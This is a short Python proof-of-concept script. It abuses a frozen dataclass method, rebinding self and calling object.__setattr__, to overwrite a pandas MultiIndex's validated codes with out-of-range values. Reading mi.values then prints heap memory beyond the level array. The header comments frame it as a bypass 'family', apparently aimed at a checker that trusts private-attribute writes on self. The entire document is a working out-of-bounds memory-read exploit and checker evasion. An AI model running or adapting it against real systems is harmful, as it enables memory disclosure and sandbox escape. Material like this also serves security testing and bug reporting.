# source: dataclasses docs (frozen dataclass idiom object.__setattr__(self, name, v)); pandas 1.5.3 MultiIndex._values -> algos.take_nd (Cython, boundscheck off)
# family: literal-name object.__setattr__(self, "_private", v) accepted as "self._x = v" while self is rebound (self = self.target) in a frozen dataclass method
# goal: replace a MultiIndex's validated codes with out-of-range ones; mi.values reads heap words past the level array (out-of-bounds memory read)
import dataclasses
import numpy as np
import pandas as pd


@dataclasses.dataclass(frozen=True)
class Spec:
    target: object
    size: int = 0

    def poke(self, v):
        self = self.target
        object.__setattr__(self, "_codes", v)
        return v


levels = pd.Index(np.array([11, 22, 33, 44], dtype=np.int64))
mi = pd.MultiIndex(levels=[levels], codes=[[0, 1, 2, 3]])
Spec(mi).poke([np.arange(0, 40, dtype=np.int64)])
vals = [v[0] for v in mi.values]
print("level has 4 values; codes 4..39 read past its end:")
print(vals)
print("out-of-bounds words:", [hex(x & 0xFFFFFFFFFFFFFFFF) for x in vals[4:]])
